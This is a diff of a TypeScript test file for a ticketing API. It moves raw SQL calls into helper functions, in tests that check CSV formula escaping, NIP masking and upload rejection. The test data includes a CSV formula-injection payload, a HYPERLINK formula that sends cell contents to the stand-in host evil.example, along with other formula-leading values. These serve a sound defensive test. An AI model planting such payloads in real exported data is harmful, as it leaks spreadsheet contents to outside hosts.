@@ -4,6 +4,7 @@ import { createOrg, TestOrg } from '../support/factories/org.factory';
 import { fileTicket } from '../support/factories/ticket.factory';
 import { startApi, startWorker, TestApi, testConfig, waitFor } from '../support/harness';
 import { SmtpSink } from '../support/mail';
+import { countOf, sqlExecute } from '../support/db';
 
 const NIP_TIER2 = '198703152010012003';
 const NIP_APPS = '199001012015031001';
@@ -20,8 +21,11 @@ describe('Data hygiene: CSV formulas, NIPs, upload bytes, API docs, auto-escalat
     api = await startApi(config);
     org = await createOrg(api.app);
     worker = await startWorker(config);
-    await api.dataSource.query(`UPDATE app_user SET nip = $2 WHERE id = $1`, [org.users.tier2.id, NIP_TIER2]);
-    await api.dataSource.query(`UPDATE app_user SET nip = $2 WHERE id = $1`, [
+    await sqlExecute(api.dataSource, `UPDATE app_user SET nip = $2 WHERE id = $1`, [
+      org.users.tier2.id,
+      NIP_TIER2,
+    ]);
+    await sqlExecute(api.dataSource, `UPDATE app_user SET nip = $2 WHERE id = $1`, [
       org.users.tier2Apps.id,
       NIP_APPS,
     ]);
@@ -34,8 +38,8 @@ describe('Data hygiene: CSV formulas, NIPs, upload bytes, API docs, auto-escalat
 
   it('should escape every CSV cell that a spreadsheet would run as a formula, the scope label too', async () => {
     const evil = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")';
-    await api.dataSource.query(`UPDATE unit SET name = $2 WHERE id = $1`, [org.pdA.id, evil]);
-    await api.dataSource.query(`UPDATE category SET name = '+SUM(1,2)' WHERE id = $1`, [
+    await sqlExecute(api.dataSource, `UPDATE unit SET name = $2 WHERE id = $1`, [org.pdA.id, evil]);
+    await sqlExecute(api.dataSource, `UPDATE category SET name = '+SUM(1,2)' WHERE id = $1`, [
       org.categories.network,
     ]);
     await fileTicket(api, org.users.requesterA, { categoryId: org.categories.network, title: '-2+3 rusak' });
@@ -65,7 +69,7 @@ describe('Data hygiene: CSV formulas, NIPs, upload bytes, API docs, auto-escalat
       api.http.get(`/api/v1/teams/${org.teams.network}/members`).set(org.users[as].auth);
 
     it('should hide colleagues’ NIPs from Tier 2 and supervisors in team members', async () => {
-      await api.dataSource.query(`INSERT INTO team_member (team_id, user_id) VALUES ($1, $2)`, [
+      await sqlExecute(api.dataSource, `INSERT INTO team_member (team_id, user_id) VALUES ($1, $2)`, [
         org.teams.network,
         org.users.tier2Apps.id,
       ]);
@@ -124,7 +128,8 @@ describe('Data hygiene: CSV formulas, NIPs, upload bytes, API docs, auto-escalat
       const res = await upload(t.id, content, name, type);
       expect(res.status).toBe(415);
       expect(res.body.errors).toEqual([expect.objectContaining({ field: 'file' })]);
-      const [{ n }] = await api.dataSource.query(
+      const n = await countOf(
+        api.dataSource,
         `SELECT count(*)::int AS n FROM ticket_attachment WHERE ticket_id = $1`,
         [t.id],
       );
